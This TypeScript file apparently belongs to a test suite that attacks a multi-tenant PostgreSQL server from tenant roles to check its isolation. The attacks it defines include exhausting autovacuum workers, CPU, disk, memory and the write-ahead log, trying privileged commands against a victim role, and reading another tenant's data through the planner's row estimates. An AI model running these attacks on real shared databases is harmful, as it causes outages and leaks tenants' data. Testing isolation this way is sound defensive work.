import { begin, patient } from './lock-attacks.ts'
import { asOwner, EVERYWHERE, type Look, OWN, SHARED, type SiegeAttack } from './siege-attack.ts'

const LETTERS = 'abcdefghijklmnopqrstuvwxyz'

/** What takes all processors makes all slow; what the operator does is done, and later. */
const OF_PROCESSORS_MS = 60_000

/** LOAD_ATTACKS take the processor, memory, disk and the server's own workers, or read what they should not. */
export const LOAD_ATTACKS: readonly SiegeAttack[] = [
  {
    name: 'autovacuum-workers',
    about: 'An index of its own tables calls a function that sleeps when autovacuum works on them',
    placements: OWN,
    sessions: 1,
    async prepare(raid) {
      await patient(raid)
      await raid.run(asOwner(raid.attacker))
      await raid.run(`create function siege_sleep(i integer) returns integer language plpgsql immutable as $$ begin
          if current_setting('siege.awake', true) is null then perform pg_sleep(3600); end if;
          return i;
        end $$`)
      await raid.run(`set siege.awake = 'yes'`)
      for (const table of ['siege_1', 'siege_2']) {
        await raid.run(`create table ${table} (i integer)
          with (autovacuum_analyze_threshold = 1, autovacuum_analyze_scale_factor = 0)`)
        await raid.run(`create index on ${table} (siege_sleep(i))`)
        await raid.run(`insert into ${table} select generate_series(1, 1000)`)
      }
    },
    async act(raid) {
      await raid.run(`set siege.awake = 'yes'`)
      await raid.run(asOwner(raid.attacker))
      await raid.attempt('insert into siege_1 values (1); insert into siege_2 values (1)')
      await raid.hold(300)
    },
    async find({ run }) {
      const rows = await run(`select count(*), current_setting('autovacuum_max_workers')::integer
        from pg_stat_activity where backend_type = 'autovacuum worker' and wait_event = 'PgSleep'`)
      const [taken, all] = (rows[0] ?? []).map(Number)
      return { text: `${taken} of ${all} workers held`, holds: (taken ?? 0) < (all ?? 0) }
    },
  },
  {
    name: 'old-snapshot',
    about: 'Keeps a snapshot, so that no dead row of the database can be removed',
    placements: EVERYWHERE,
    sessions: 2,
    async act(raid) {
      await begin(raid)
      await raid.run('rollback; begin isolation level repeatable read; select from users limit 1')
      await raid.hold()
    },
    find: oldest,
  },
  {
    name: 'old-snapshot-unread',
    about: 'Keeps a snapshot in a statement whose answer it does not read',
    placements: EVERYWHERE,
    sessions: 2,
    async act(raid) {
      await patient(raid)
      await raid.deaf(`select repeat('x', 1000) from generate_series(1, 1000000)`)
    },
    find: oldest,
  },
  {
    name: 'transaction-ids',
    about: 'Uses up transaction ids as fast as it can',
    placements: EVERYWHERE,
    sessions: 2,
    async act(raid) {
      await patient(raid)
      await raid.attempt(
        'do $$ begin for i in 1..5000 loop perform pg_current_xact_id(); commit; end loop; end $$',
      )
    },
  },
  {
    name: 'processor',
    about: 'As many sessions as it gets compute without an end, with parallel workers',
    placements: EVERYWHERE,
    operatorBoundMs: OF_PROCESSORS_MS,
    sessions: 'all',
    async act(raid) {
      await patient(raid)
      await raid.run(`set max_parallel_workers_per_gather = 8; set parallel_setup_cost = 0;
        set parallel_tuple_cost = 0; set min_parallel_table_scan_size = 0`)
      await raid.run('select count(*) from pg_proc a, pg_proc b, pg_proc c where a.oid + b.oid + c.oid < 0')
    },
  },
  {
    name: 'temporary-files',
    about: 'Sorts much on disk',
    placements: EVERYWHERE,
    sessions: 4,
    async act(raid) {
      await patient(raid)
      await raid.run(`set work_mem = '64kB'`)
      await raid.attempt(`select from
        (select i || repeat('x', 100) as x from generate_series(1, 500000) i order by random()) y
        order by x offset 499999`)
    },
  },
  {
    name: 'memory',
    about: 'Holds much memory for hash tables',
    placements: EVERYWHERE,
    sessions: 2,
    async act(raid) {
      await patient(raid)
      await raid.run(`set work_mem = '64MB'; set hash_mem_multiplier = 2`)
      await raid.attempt('select count(*) from (select i from generate_series(1, 1000000) i group by i) x')
    },
  },
  {
    name: 'write-ahead-log',
    about: 'Writes much into the write-ahead log, by messages where it may, and by rows that are rolled back',
    placements: EVERYWHERE,
    sessions: 2,
    async act(raid) {
      await begin(raid)
      await raid.attempt(`select count(pg_logical_emit_message(false, 'siege', repeat('x', 1000000)))
        from generate_series(1, 20)`)
      await raid.attempt('rollback; begin; set transaction read write')
      await raid.attempt(`insert into users (first_name, last_name)
        select repeat('x', 200), repeat('x', 200) from generate_series(1, 20000)`)
      await raid.attempt('rollback')
    },
  },
  {
    name: 'temporary-tables',
    about:
      'Makes and drops temporary tables with rows, in the database postgres, which lets every login do so',
    placements: EVERYWHERE,
    sessions: 4,
    database: 'postgres',
    async act(raid) {
      await patient(raid)
      await raid.attempt(
        `create temporary table siege as select repeat('x', 1000) as x from generate_series(1, 10000)`,
      )
      await raid.attempt('drop table siege')
    },
  },
  {
    name: 'held-cursors',
    about: 'Keeps the answers of cursors beyond their transactions, in files of the server',
    placements: EVERYWHERE,
    sessions: 2,
    async act(raid) {
      await patient(raid)
      await raid.attempt('close all')
      for (let cursor = 1; cursor <= 5; cursor++) {
        await raid.attempt(`declare siege_${cursor} cursor with hold for
          select repeat('x', 1000) from generate_series(1, 20000)`)
      }
    },
  },
  {
    name: 'catalog-bloat',
    about:
      'Makes and drops tables without a pause, beside a snapshot that keeps all dead rows of the catalogs',
    placements: OWN,
    sessions: 3,
    async act(raid) {
      await begin(raid)
      if (raid.number === 0) {
        await raid.run('rollback; begin isolation level repeatable read; select from users limit 1')
        return raid.hold()
      }
      await raid.run(`rollback; ${asOwner(raid.attacker)}`)
      await raid.attempt(`do $$ begin
        for i in 1..50 loop
          execute 'create table siege_${raid.number} (i serial primary key, a text, b text)';
          execute 'drop table siege_${raid.number}';
          commit;
        end loop;
      end $$`)
    },
  },
  {
    name: 'shared-row-locks',
    about: 'Locks the same rows by several sessions, each time with a new multixact',
    placements: EVERYWHERE,
    sessions: 4,
    async act(raid) {
      await begin(raid)
      if (raid.number === 0)
        await raid.run(`insert into users (first_name, last_name) values ('Siege', 'Siege')`)
      await raid.run('commit')
      await raid.attempt(`do $$ begin
        for i in 1..200 loop perform from (select from users limit 20 for share) x; commit; end loop;
      end $$`)
    },
  },
  {
    name: 'copy',
    about: 'Copies much out',
    placements: EVERYWHERE,
    operatorBoundMs: OF_PROCESSORS_MS,
    sessions: 2,
    async act(raid) {
      await patient(raid)
      await raid.run(`copy (select repeat('x', 1000) from generate_series(1, 20000)) to stdout`)
    },
  },
  {
    name: 'own-tables-rebuilt',
    about: 'Vacuums, analyzes, clusters and indexes large tables of its own without a pause',
    placements: OWN,
    sessions: 2,
    async prepare(raid) {
      await raid.run(asOwner(raid.attacker))
      await raid.run(`create table siege_large (i integer primary key, x text);
        insert into siege_large select i, repeat('x', 50) from generate_series(1, 50000) i`)
    },
    async act(raid) {
      await patient(raid)
      await raid.run(asOwner(raid.attacker))
      await raid.attempt('vacuum (full, analyze) siege_large')
      await raid.attempt('cluster siege_large using siege_large_pkey')
      await raid.attempt(`create index concurrently siege_${raid.number} on siege_large (x, i)`)
      await raid.attempt('reindex table siege_large')
      await raid.attempt(`drop index siege_${raid.number}`)
    },
  },
  {
    name: 'refused',
    about:
      'Tries without a pause what the server refuses: locks on catalogs, other roles, publications, temporary tables',
    placements: EVERYWHERE,
    sessions: 4,
    async act(raid) {
      await begin(raid)
      for (const text of [
        'lock table pg_catalog.pg_authid in access exclusive mode',
        'lock table pg_catalog.pg_class in access exclusive mode',
        'vacuum full pg_catalog.pg_class',
        `alter role ${raid.victim.login} nologin`,
        `reassign owned by current_user to ${raid.victim.login}`,
        `comment on role ${raid.victim.login} is 'siege'`,
        'create publication siege for all tables',
        'create temporary table siege ()',
        'drop table app.users',
        `select pg_terminate_backend(pid) from pg_stat_activity where usename = '${raid.victim.login}'`,
      ]) {
        await raid.attempt(text)
        await raid.attempt('rollback; begin')
      }
    },
  },
  {
    name: 'statistics',
    about: "Reads another tenant's most common name out of the planner's estimates, letter by letter",
    placements: SHARED,
    sessions: 1,
    async act(raid) {
      await patient(raid)
      const { id } = raid.victim
      let known = ''
      for (;;) {
        let best = { letter: '', rows: 0, isUnique: false }
        for (const letter of LETTERS) {
          const end = String.fromCharCode(letter.charCodeAt(0) + 1)
          const plan = await raid.run(`explain (format json) select from app.users
            where tenant_id = '${id}' and last_name >= '${known}${letter}' and last_name < '${known}${end}'`)
          const rows = rowsOf(plan[0]?.[0] ?? '')
          if (rows > best.rows) best = { letter, rows, isUnique: true }
          else if (rows === best.rows) best = { ...best, isUnique: false }
        }
        if (!best.isUnique || known.length > 20) break
        known += best.letter
      }
      raid.note(known)
      await raid.hold()
    },
    async find({ notes, victim }) {
      const found = notes.map((known) => commonPrefix(known, victim.secret))
      const most = Math.max(0, ...found)
      return {
        text: notes.length === 0 ? 'not finished' : `recovered ${most} of ${victim.secret.length} letters`,
        holds: notes.length > 0 && most === 0,
      }
    },
  },
]

/** The deepest estimate of a plan: what reads the table. Those above are rounded once more. */
function rowsOf(plan: string): number {
  const rows = [...plan.matchAll(/"Plan Rows": (\d+)/g)].map(([, count]) => Number(count))
  return rows.at(-1) ?? 0
}

function commonPrefix(a: string, b: string): number {
  let length = 0
  while (length < a.length && a[length] === b[length]) length += 1
  return length
}

async function oldest({ run, attackers }: Look) {
  const [row] = await run(`select coalesce(max(extract(epoch from now() - xact_start)), 0)::integer
    from pg_stat_activity where usename ~ '(${attackers.map(({ hex }) => hex).join('|')})'`)
  return { text: `oldest transaction ${row?.[0]} s`, holds: true }
}
